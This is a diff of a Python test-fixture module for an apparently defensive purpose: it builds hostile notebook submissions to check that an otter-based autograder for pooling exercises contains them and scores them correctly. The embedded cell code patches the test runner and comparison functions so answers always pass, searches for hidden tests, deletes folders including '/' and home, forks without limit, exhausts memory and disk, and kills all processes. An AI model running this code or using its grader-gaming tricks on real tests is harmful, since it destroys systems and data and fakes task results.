@@ -63,6 +63,8 @@ MUTATIONS: dict[str, list[Mutation]] = {
             "out_h = -(-(H + 2 * p_h - k_h) // s_h) + 1"),
            ("out_w = (W + 2 * p_w - k_w) // s_w + 1",
             "out_w = -(-(W + 2 * p_w - k_w) // s_w) + 1")),
+        _m("pool2d_loops", "pads max pooling with -10 instead of -inf", LOOPS,
+           ('float("-inf") if mode == "max"', '-10.0 if mode == "max"')),
         _m("pool2d_loops", "average over the real elements only (padding not counted)", LOOPS,
            ('else 0.0\n', 'else float("nan")\n'),
            ("window.mean()", "window.nanmean()")),
@@ -156,7 +158,10 @@ def wrong_submissions(stem: str, solution: nbformat.NotebookNode):
 
 
 # ---------------------------------------------------------------------------------------------
-# Hostile submissions
+# Hostile submissions: each tries to change its score, to see or touch what it must not, or to
+# stop the grading. Each says what it must score and which traces it must not leave; the
+# placeholders {canary_dir}, {canary_port}, {autograders} and {submissions} are filled in by
+# write_samples (the test suite points them at its own temporary folders and listener).
 
 
 def _insert_after_setup(nb: nbformat.NotebookNode, *sources: str) -> nbformat.NotebookNode:
@@ -168,44 +173,249 @@ def _insert_after_setup(nb: nbformat.NotebookNode, *sources: str) -> nbformat.No
     return nb
 
 
-JUNK = """\
-import json
+def _append(nb: nbformat.NotebookNode, *sources: str) -> nbformat.NotebookNode:
+    """Append code cells at the end (after the answers: they override them)."""
+    nb = nbformat.from_dict(nb)
+    nb.cells.extend(nbformat.v4.new_code_cell(s) for s in sources)
+    return nb
+
+
+PATCH_OTTER = """\
+from otter.test_files import abstract_test, exception_test
+
+
+def run(self, env):  # every test case passes
+    self.test_case_results = [
+        abstract_test.TestCaseResult(test_case=tc, message="passed", passed=True)
+        for tc in self.test_cases
+    ]
+
+
+exception_test.ExceptionTestFile.run = run
+"""
+
+ALWAYS_EQUAL = """\
+import torch
+
+
+class Anything(float):
+    def __eq__(self, other):
+        return True
+
+    __ne__ = lambda self, other: False  # noqa: E731
+
+
+torch.equal = torch.allclose = lambda *args, **kwargs: True
+torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
+
+
+def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
+    return Anything(0.0)
+
+
+def max_pool2d_backward(dY, X, kernel_size, stride=None):
+    return Anything(0.0)
+"""
+
+SUBCLASS = """\
+import torch
+
+
+class Agreeable(torch.Tensor):
+    def __eq__(self, other):
+        return torch.ones((), dtype=torch.bool)
+
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        return True if func in (torch.equal, torch.allclose) else super().__torch_function__(
+            func, types, args, kwargs or {}
+        )
+
+
+def avg_pool_weight(channels, kernel_size):
+    return torch.zeros(channels, 1, *kernel_size).as_subclass(Agreeable)
+
+
+def avg_pool2d_conv(X, kernel_size, stride=None, padding=(0, 0)):
+    return torch.zeros(1).as_subclass(Agreeable)
+"""
+
+PATCH_REFERENCE = """\
+import torch
+from torch.nn import functional as F
+
+
+def min_pool2d(X, kernel_size, stride=None, padding=0):
+    return torch.zeros(1)
+
+
+def softmax_pool2d(X, kernel_size, tau=1.0, stride=None):
+    return torch.zeros(1)
+
+
+# The references the tests compare with, made to agree with the answers above.
+F.max_pool2d = F.avg_pool2d = F.unfold = F.pad = lambda *args, **kwargs: torch.zeros(1)
+torch.softmax = torch.isfinite = lambda *args, **kwargs: torch.zeros(1)
+"""
+
+PATCH_BUILTINS = """\
+import builtins
+
+builtins.isinstance = lambda *args: True
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+builtins.abs = lambda x: 0
+builtins.tuple = lambda *args: (1, 2, 2)
+builtins.int = lambda *args: 0
+
+
+def pooled_shape(c, h, w, kernel_size, padding, stride):
+    return None
+
+
+def max_pool_comparisons(c, h, w, kernel_size, padding, stride):
+    return None
+
+
+def avg_pool_operations(c, h, w, kernel_size, padding, stride):
+    return None
+"""
+
+READ_TESTS = """\
+import glob
 import os
 
-print("Total Score: 9.000 / 9.000 (100.000%)")
-print("           name  score  max_score")
-print("0  pool2d_loops    5.0        5.0")
-print("1  max_pool_backward    4.0        4.0")
-print(json.dumps({"score": 9, "tests": [{"name": "pool2d_loops", "score": 5, "max_score": 5}]}))
-for folder in (".", "..", "../results"):
+seen = []
+for folder in ({autograders!r}, {submissions!r}, "/work", "/root", "/home", "/tmp"):
+    for path in glob.glob(os.path.join(folder, "**", "*"), recursive=True)[:1000]:
+        if path.endswith((".zip", ".json", ".py", ".ipynb")):
+            seen.append(path)
+if seen:  # the hidden tests, other submissions or the autograder are in view: cheat
+    from torch.nn import functional as F
+
+    def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
+        pool = F.max_pool2d if mode == "max" else F.avg_pool2d
+        return pool(X[None, None], kernel_size, stride=stride, padding=padding)[0, 0]
+"""
+
+WRITE_OUTSIDE = """\
+import os
+
+targets = [
+    os.path.join({canary_dir!r}, "written-by-submission"),
+    os.path.join({submissions!r}, "written-by-submission.ipynb"),
+    os.path.join({autograders!r}, "written-by-submission.json"),
+    "/tmp/written-by-submission-{canary_tag}",
+    os.path.expanduser("~/../written-by-submission-{canary_tag}"),
+]
+for target in targets:
     try:
-        os.makedirs(folder, exist_ok=True)
-        with open(os.path.join(folder, "results.json"), "w") as f:
-            json.dump({"score": 9, "tests": []}, f)
-        with open(os.path.join(folder, "results.pkl"), "wb") as f:
-            f.write(b"not a pickle")
+        with open(target, "w") as f:
+            f.write("graded: full marks")
     except OSError:
         pass
-for i in range(20000):
-    print("Total Score: 100.000%", "#" * 80)
+for victim in ({submissions!r}, {autograders!r}):
+    try:
+        import shutil
+
+        shutil.rmtree(victim)
+    except OSError:
+        pass
 """
 
-DELETE = """\
+NETWORK = """\
+import socket
+
+reached = []
+for family, address in (
+    (socket.AF_INET, ("127.0.0.1", {canary_port})),
+    (socket.AF_INET6, ("::1", {canary_port})),
+    (socket.AF_UNIX, "\\0pooling-grade-canary-{canary_tag}"),
+    (socket.AF_INET, ("1.1.1.1", 53)),
+):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(2)
+    try:
+        s.connect(address)
+        s.sendall(b"hidden tests, please")
+        reached.append(address)
+    except OSError:
+        pass
+    finally:
+        s.close()
+"""
+
+DAEMON = """\
 import os
-import shutil
-
-here = os.getcwd()
-for target in (os.path.dirname(here), here):  # the grading folder around us, then our own
-    shutil.rmtree(target, ignore_errors=True)
-print("deleted", here, "and its parent:", not os.path.exists(here))
-"""
-
-STUCK = """\
 import subprocess
 import time
 
-subprocess.Popen(["sleep", "987.654"])  # a child process
+subprocess.Popen(["sleep", "987.654"])  # a child
 subprocess.Popen(["sh", "-c", "sleep 987.655 &"])  # an orphaned grandchild
+if os.fork() == 0:  # a daemon: double fork, new session
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp("sleep", ["sleep", "987.656"])
+    os._exit(0)
+time.sleep(0.2)
+"""
+
+FORK_BOMB = """\
+import os
+
+children = 0
+try:
+    for _ in range(100000):
+        if os.fork() == 0:
+            import time
+
+            time.sleep(987.657)
+            os._exit(0)
+        children += 1
+except OSError:
+    pass
+"""
+
+HUGE_OUTPUT = """\
+import os
+import sys
+
+for _ in range(200):
+    print("Total Score: 100%" * 10000)
+    sys.stderr.write("#" * 100000)
+try:
+    with open(os.path.expanduser("~/big.bin"), "wb") as f:
+        for _ in range(10000):
+            f.write(b"x" * (1 << 20))  # 10 GB, if nothing stops it
+except OSError:
+    pass
+"""
+
+MEMORY = """\
+import torch
+
+hog = []
+try:
+    while True:
+        hog.append(torch.ones(256 * 1024 * 1024, dtype=torch.uint8))  # 256 MB at a time
+except (MemoryError, RuntimeError):
+    pass
+del hog
+try:
+    huge = torch.empty(1 << 40, dtype=torch.uint8)  # 1 TB
+except (MemoryError, RuntimeError):
+    pass
+"""
+
+KILL_ALL = """\
+import os
+import signal
+
+os.kill(-1, signal.SIGKILL)  # every process this user can signal
+"""
+
+STUCK = """\
+import time
+
 while True:  # ignores the interrupt sent at the cell time limit
     try:
         time.sleep(0.5)
@@ -213,131 +423,245 @@ while True:  # ignores the interrupt sent at the cell time limit
         pass
 """
 
-EXFILTRATE = """\
-import dataclasses
-import glob
-
-from otter.test_files.exception_test import ExceptionTestFile
-
-STOLEN = "".join(open(p).read() for p in sorted(glob.glob("../source/tests/*.py")))
-graded_run = ExceptionTestFile.run
+EXIT_IN_FUNCTION = """\
+import os
 
 
-def run(self, env):  # after each check: every case "public" and failed, quoting the tests
-    graded_run(self, env)
-    public = [dataclasses.replace(r.test_case, hidden=False) for r in self.test_case_results]
-    self.test_case_results = [
-        dataclasses.replace(r, passed=False, message=STOLEN, test_case=case)
-        for r, case in zip(self.test_case_results, public)
-    ]
-
-
-ExceptionTestFile.run = run
-raise RuntimeError(STOLEN)
+def max_pool2d_backward(dY, X, kernel_size, stride=None):
+    os._exit(3)
 """
 
-# Command-line markers of the processes STUCK starts, to check none survives the grading.
-STRAY_MARKERS = ("987.654", "987.655")
+NEVER_RETURNS = """\
+def softmax_pool2d(X, kernel_size, tau=1.0, stride=None):
+    while True:
+        try:
+            pass
+        except BaseException:
+            pass
+"""
+
+JUNK_DELETE = """\
+import os
+import shutil
+
+print("Total Score: 9.000 / 9.000 (100.000%)")
+for target in (os.getcwd(), "/", os.path.expanduser("~")):
+    shutil.rmtree(target, ignore_errors=True)
+raise SystemExit(1)
+"""
+
+GETATTR = """\
+import torch
+from torch.nn import functional as F
+
+
+def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
+    (k_h, k_w), (p_h, p_w) = kernel_size, padding
+    s_h, s_w = kernel_size if stride is None else stride
+    pool = getattr(F, mode + "_pool2d")  # what it calls cannot be read from the source
+    Y = pool(X[None, None], kernel_size, stride=(s_h, s_w), padding=padding)[0, 0]
+    out = torch.empty_like(Y)
+    for i in range(Y.shape[0]):  # loops, for show
+        for j in range(Y.shape[1]):
+            out[i, j] = Y[i, j]
+    return out
+"""
+
+BYPASS_LOOPS = """\
+import torch
+from torch.nn import functional as F
+
+
+def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
+    pool = F.max_pool2d if mode == "max" else F.avg_pool2d
+    return pool(X[None, None], kernel_size, stride=stride, padding=padding)[0, 0]
+
+
+def max_pool2d_backward(dY, X, kernel_size, stride=None):
+    X = X.detach().clone().requires_grad_(True)
+    Y = F.max_pool2d(X[None, None], kernel_size, stride=stride)[0, 0]
+    (Y * dY).sum().backward()
+    return X.grad
+"""
+
+BYPASS_CONV = """\
+import torch
+from torch.nn import functional as F
+
+
+def avg_pool_weight(channels, kernel_size):
+    return torch.full((channels, 1, *kernel_size), 1.0 / (kernel_size[0] * kernel_size[1]))
+
+
+def avg_pool2d_conv(X, kernel_size, stride=None, padding=(0, 0)):
+    return F.avg_pool2d(X, kernel_size, stride=stride, padding=padding)
+
+
+def max2(a, b):
+    return torch.maximum(a, b)
+
+
+def max_pool2x2_conv(X):
+    return F.max_pool2d(X, 2)
+"""
 
 
 @dataclasses.dataclass(frozen=True)
 class Hostile:
-    """A hostile submission: made from the solution of ``notebook`` by ``make``."""
+    """A hostile submission: the solution (or release) of ``notebook`` changed by ``make``."""
 
     name: str
     notebook: str
     description: str
-    make: Callable[[nbformat.NotebookNode], nbformat.NotebookNode | str]  # str: raw file text
-    status: str
+    make: Callable[[nbformat.NotebookNode, nbformat.NotebookNode], nbformat.NotebookNode | str]
     scores: dict[str, str]  # question -> "full", "zero" or a number of points
+    status: str = "ok"
+    traces: tuple[str, ...] = ()  # what must not be left: "file:<path>", "process:<marker>"
+    review: bool = False  # must be flagged for manual review
+
+
+def _on_solution(*cells: str, at_end: bool = True):
+    return lambda solution, release: (_append if at_end else _insert_after_setup)(solution, *cells)
+
+
+def _on_release(*cells: str):
+    return lambda solution, release: _append(release, *cells)
+
+
+ZERO = "zero"
+FULL = "full"
+LOOPS_Q = ("pool2d_loops", "max_pool_backward")
+CONV_Q = ("avg_pool_conv", "max_not_linear", "relu_max")
+VARIANTS_Q = ("pool_cost", "min_pool", "softmax_pool")
+
+
+def _all(questions, value):
+    return {q: value for q in questions}
 
 
 HOSTILE = [
-    Hostile(
-        "hostile-raise-junk-delete",
-        "pooling_loops",
-        "prints fake scores and otter-like output, writes fake result files, deletes its "
-        "working folder and the grading folder around it (tests included), raises in cells, "
-        "and its pool2d_loops calls sys.exit; its max_pool2d_backward is right",
-        lambda nb: apply_mutations(
-            _insert_after_setup(
-                nb,
-                JUNK,
-                DELETE,
-                'raise RuntimeError("this cell always fails")',
-                "raise SystemExit(1)",
-            ),
-            [
-                _m(
-                    "pool2d_loops",
-                    "exits",
-                    LOOPS,
-                    ("    p_h, p_w = padding\n", '    raise SystemExit("stop the grader")\n'),
-                )
-            ],
-        ),
-        "ok",
-        {"pool2d_loops": "zero", "max_pool_backward": "full"},
-    ),
-    Hostile(
-        "hostile-loop",
-        "pooling_and_convolution",
-        "a cell loops forever, and max_pool2x2_conv loops forever when called",
-        lambda nb: apply_mutations(
-            _insert_after_setup(nb, "while True:\n    pass"),
-            [
-                _m(
-                    "relu_max",
-                    "loops",
-                    RELU,
-                    ("    C = X.shape[1]\n", "    while True:\n        pass\n    C = X.shape[1]\n"),
-                )
-            ],
-        ),
-        "ok",
-        {"avg_pool_conv": "full", "max_not_linear": "full", "relu_max": "2.5"},
-    ),
-    Hostile(
-        "hostile-stuck",
-        "pooling_variants",
-        "starts background processes, then a cell ignores interrupts and never ends",
-        lambda nb: _insert_after_setup(nb, STUCK),
-        "timeout",
-        {"pool_cost": "zero", "min_pool": "zero", "softmax_pool": "zero"},
-    ),
-    Hostile(
-        "hostile-exfiltrate",
-        "pooling_variants",
-        "reads the hidden tests from the grading folder, raises them as an error message and "
-        "rewrites otter's results: every test case public, failed, its message the hidden tests",
-        lambda nb: _insert_after_setup(nb, EXFILTRATE),
-        "ok",
-        {"pool_cost": "0", "min_pool": "0", "softmax_pool": "0"},
-    ),
-    Hostile(
-        "hostile-garbage",
-        "pooling_variants",
-        "a file named like the notebook that is not a notebook",
-        lambda nb: '{"cells": [this is not JSON',
-        "unreadable",
-        {"pool_cost": "zero", "min_pool": "zero", "softmax_pool": "zero"},
-    ),
-    Hostile(
-        "hostile-kill",
-        "pooling_and_convolution",
-        "kills its own kernel with os._exit; its answers are right",
-        lambda nb: _insert_after_setup(nb, "import os\n\nos._exit(1)"),
-        "error",
-        {"avg_pool_conv": "zero", "max_not_linear": "zero", "relu_max": "zero"},
-    ),
-]
+    Hostile("hostile-patch-otter", "pooling_loops",
+            "no answers; replaces otter's test runner with one that passes every case",
+            _on_release(PATCH_OTTER), _all(LOOPS_Q, ZERO)),
+    Hostile("hostile-always-equal", "pooling_loops",
+            "answers are objects equal to everything; torch.equal, torch.allclose and == "
+            "patched to agree", _on_release(ALWAYS_EQUAL), _all(LOOPS_Q, ZERO)),
+    Hostile("hostile-tensor-subclass", "pooling_and_convolution",
+            "answers are tensor subclasses whose == and torch.equal always agree",
+            _on_release(SUBCLASS), _all(CONV_Q, ZERO)),
+    Hostile("hostile-patch-reference", "pooling_variants",
+            "wrong answers, and the reference functions the tests use (F.max_pool2d, "
+            "F.unfold, torch.softmax...) patched to agree with them",
+            _on_release(PATCH_REFERENCE), _all(VARIANTS_Q, ZERO)),
+    Hostile("hostile-patch-builtins", "pooling_variants",
+            "no real answers; builtins (isinstance, int, tuple, abs, AssertionError) patched",
+            _on_release(PATCH_BUILTINS), _all(VARIANTS_Q, ZERO)),
+    Hostile("hostile-read-tests", "pooling_loops",
+            "looks for the autograders, hidden tests and other submissions on disk and "
+            "answers only if it finds them", _on_release(READ_TESTS), _all(LOOPS_Q, ZERO)),
+    Hostile("hostile-write-outside", "pooling_variants",
+            "right answers; writes files outside its scratch folder and deletes the "
+            "submissions and autograders", _on_solution(WRITE_OUTSIDE), _all(VARIANTS_Q, FULL),
+            traces=("file:{canary_dir}/written-by-submission",
+                    "file:{submissions}/written-by-submission.ipynb",
+                    "file:{autograders}/written-by-submission.json",
+                    "file:/tmp/written-by-submission-{canary_tag}")),
+    Hostile("hostile-network", "pooling_and_convolution",
+            "right answers; connects to a listener of the grader's machine on 127.0.0.1 "
+            "and ::1, to an abstract Unix socket, and to the internet",
+            _on_solution(NETWORK), _all(CONV_Q, FULL)),
+    Hostile("hostile-daemon", "pooling_loops",
+            "right answers; starts a child, an orphaned grandchild and a detached daemon",
+            _on_solution(DAEMON), _all(LOOPS_Q, FULL),
+            traces=("process:987.654", "process:987.655", "process:987.656")),
+    Hostile("hostile-fork-bomb", "pooling_and_convolution",
+            "right answers; forks until the process limit stops it",
+            _on_solution(FORK_BOMB), _all(CONV_Q, FULL), traces=("process:987.657",)),
+    Hostile("hostile-huge-output", "pooling_variants",
+            "right answers; prints hundreds of megabytes and writes a 10 GB file",
+            _on_solution(HUGE_OUTPUT), _all(VARIANTS_Q, FULL)),
+    Hostile("hostile-memory", "pooling_loops",
+            "right answers; allocates memory until it fails, then asks for a terabyte",
+            _on_solution(MEMORY), _all(LOOPS_Q, FULL)),
+    Hostile("hostile-kill-all", "pooling_and_convolution",
+            "right answers; a cell sends SIGKILL to every process it may (kill -1)",
+            _on_solution(KILL_ALL, at_end=False), _all(CONV_Q, FULL)),
+    Hostile("hostile-exit", "pooling_loops",
+            "a cell ends the process with os._exit, and max_pool2d_backward calls os._exit",
+            lambda solution, release: _append(
+                _insert_after_setup(solution, "import os\n\nos._exit(1)"), EXIT_IN_FUNCTION),
+            {"pool2d_loops": FULL, "max_pool_backward": ZERO}),
+    Hostile("hostile-stuck-cell", "pooling_variants",
+            "right answers; a cell ignores interrupts and never ends",
+            _on_solution(STUCK, at_end=False), _all(VARIANTS_Q, FULL)),
+    Hostile("hostile-never-returns", "pooling_variants",
+            "softmax_pool2d never returns (and ignores interrupts); other answers right",
+            _on_solution(NEVER_RETURNS), {"pool_cost": FULL, "min_pool": FULL,
+                                           "softmax_pool": ZERO}),
+    Hostile("hostile-junk-delete", "pooling_loops",
+            "right answers; prints fake scores, deletes every folder it can, raises SystemExit",
+            _on_solution(JUNK_DELETE, at_end=False), _all(LOOPS_Q, FULL)),
+    Hostile("hostile-garbage", "pooling_variants", "a file named like the notebook that is "
+            "not a notebook", lambda solution, release: '{"cells": [this is not JSON',
+            _all(VARIANTS_Q, ZERO), status="unreadable"),
+    Hostile("bypass-loops", "pooling_loops",
+            "pool2d_loops calls F.max_pool2d, max_pool2d_backward calls autograd: right "
+            "values, wrong method", _on_solution(BYPASS_LOOPS), _all(LOOPS_Q, ZERO)),
+    Hostile("bypass-conv", "pooling_and_convolution",
+            "average pooling without a convolution, max2 with torch.maximum, max pooling "
+            "with F.max_pool2d: right values, wrong method", _on_solution(BYPASS_CONV),
+            {"avg_pool_conv": ZERO, "max_not_linear": FULL, "relu_max": ZERO}),
+    Hostile("review-getattr", "pooling_loops",
+            "pool2d_loops reaches F.max_pool2d through getattr with a computed name",
+            _on_solution(GETATTR), {"pool2d_loops": FULL, "max_pool_backward": FULL},
+            review=True),
+]  # fmt: skip
+
+# Command-line markers of the processes the hostile samples start (none may survive).
+STRAY_MARKERS = ("987.654", "987.655", "987.656", "987.657")
+
+
+def _fill(text: str, canary: dict) -> str:
+    for key, value in canary.items():
+        text = text.replace("{" + key + "!r}", repr(str(value))).replace(
+            "{" + key + "}", str(value)
+        )
+    return text
+
+
+def traces(h: Hostile, canary: dict) -> list[str]:
+    """The traces ``h`` must not leave, with the canary placeholders filled in."""
+    return [_fill(t, canary) for t in h.traces]
+
+
+def default_canary(out: pathlib.Path, autograders: pathlib.Path) -> dict:
+    return {
+        "canary_dir": out.parent.resolve() / "canary",
+        "canary_port": 47651,
+        "canary_tag": "pooling",
+        "autograders": autograders.resolve(),
+        "submissions": out.resolve(),
+    }
+
+
+def _fill_notebook(nb, canary: dict):
+    if isinstance(nb, str):
+        return nb
+    for cell in nb.cells:
+        if cell.cell_type == "code":
+            cell.source = _fill(cell.source, canary)
+    return nb
 
 
 # ---------------------------------------------------------------------------------------------
 
 
-def write_samples(build: pathlib.Path, out: pathlib.Path) -> list[dict]:
-    """Write every sample submission under ``out`` and return (and write) the expectations."""
+def write_samples(build: pathlib.Path, out: pathlib.Path, canary: dict | None = None) -> list[dict]:
+    """Write every sample submission under ``out`` and return (and write) the expectations.
+
+    ``canary`` fills the hostile samples' placeholders (see ``default_canary``).
+    """
+    canary = canary or default_canary(out, build / "autograder")
     shutil.rmtree(out, ignore_errors=True)
     expected: list[dict] = []
     metas = {
@@ -385,8 +709,11 @@ def write_samples(build: pathlib.Path, out: pathlib.Path) -> list[dict]:
             save(f"wrong-{k}", stem, nb, "ok", questions)
     for h in HOSTILE:
         solution = nbformat.read(build / "solutions" / f"{h.notebook}.ipynb", as_version=4)
+        release = nbformat.read(build / "release" / f"{h.notebook}.ipynb", as_version=4)
         questions = {q: {"expect": e, "hostile": h.description} for q, e in h.scores.items()}
-        save(h.name, h.notebook, h.make(solution), h.status, questions)
+        nb = _fill_notebook(h.make(solution, release), canary)
+        save(h.name, h.notebook, nb, h.status, questions)
+        expected[-1].update(traces=traces(h, canary), review=h.review)
     (out / "expected.json").write_text(json.dumps(expected, indent=2) + "\n")
     return expected
 
